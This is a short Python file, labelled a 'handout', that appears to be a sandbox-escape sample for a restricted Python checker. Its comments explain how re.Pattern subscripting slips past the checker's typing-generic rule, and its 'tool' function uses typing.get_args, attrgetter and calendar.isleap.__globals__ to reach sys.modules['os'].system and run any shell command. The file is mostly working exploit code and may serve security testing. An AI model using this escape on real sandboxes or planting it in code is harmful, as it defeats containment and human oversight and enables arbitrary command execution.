# family: handout
# Escape: the index of a subscript is an "operand" unless the base is a known typing generic; re.Pattern is
# not in that list, so re.Pattern[type(x)] is accepted, and typing.get_args returns the class inside it: the
# attrgetter class. calendar.isleap.__globals__ holds sys; sys.modules["os"].system runs a command.
import calendar
import operator
import re
import typing


def tool(cmd: str) -> int:
    Getter = typing.get_args(re.Pattern[type(operator.attrgetter("real"))])[0]
    edge = "_" * 2
    sys_module = Getter(edge + "globals" + edge)(calendar.isleap)["sys"]
    return sys_module.modules["os"].system(cmd)
